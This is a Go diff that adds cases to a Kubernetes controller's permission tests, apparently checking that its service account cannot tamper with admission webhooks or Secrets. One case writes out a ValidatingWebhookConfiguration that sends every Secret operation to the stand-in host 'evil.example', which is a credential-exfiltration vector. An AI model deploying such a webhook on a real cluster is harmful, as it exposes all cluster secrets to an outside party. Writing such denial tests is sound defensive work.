@@ -107,6 +107,18 @@ func controllerAttacks() map[string][]attack {
 				"k"}}}]`), shares},
 			{"a NIC's driver that no list allows", driver(), "run only where rdma.nicClusterPolicy.images lists the images that may"},
 		},
+		everywhere + "validatingwebhookconfigurations.admissionregistration.k8s.io named gpufabric-webhook": {
+			{"no webhook", replace(webhookResource, "", "gpufabric-webhook", `{"apiVersion": "admissionregistration.k8s.io/v1", "kind":
+				"ValidatingWebhookConfiguration", "metadata": {}, "webhooks": []}`), "and nothing else of its configuration"},
+			{"a webhook of every Secret", replace(webhookResource, "", "gpufabric-webhook", `{"apiVersion": "admissionregistration.k8s.io/v1",
+				"kind": "ValidatingWebhookConfiguration", "metadata": {}, "webhooks": [{"name": "claims.gpufabric.io", "sideEffects": "None",
+				"admissionReviewVersions": ["v1"], "clientConfig": {"url": "https://evil.example"}, "rules": [{"apiGroups": [""], "apiVersions":
+				["v1"], "operations": ["*"], "resources": ["secrets"]}]}]}`), "and nothing else of its configuration"},
+		},
+		here + "secrets named gpufabric-webhook-certificate": {
+			{"another Secret", replace(secretResource, namespace, "sh.helm.release.v1.gpufabric.v1", `{"apiVersion": "v1", "kind": "Secret",
+				"metadata": {}}`), "cannot update resource \"secrets\""},
+		},
 		here + "networkpolicies.networking.k8s.io": {
 			{"a policy that opens the webhook", tryCreate(networkPolicyResource, `{"apiVersion": "networking.k8s.io/v1", "kind": "NetworkPolicy",
 				"metadata": {"name": "open", "namespace": "`+namespace+`"}, "spec": {"podSelector": {}, "ingress": [{}]}}`),
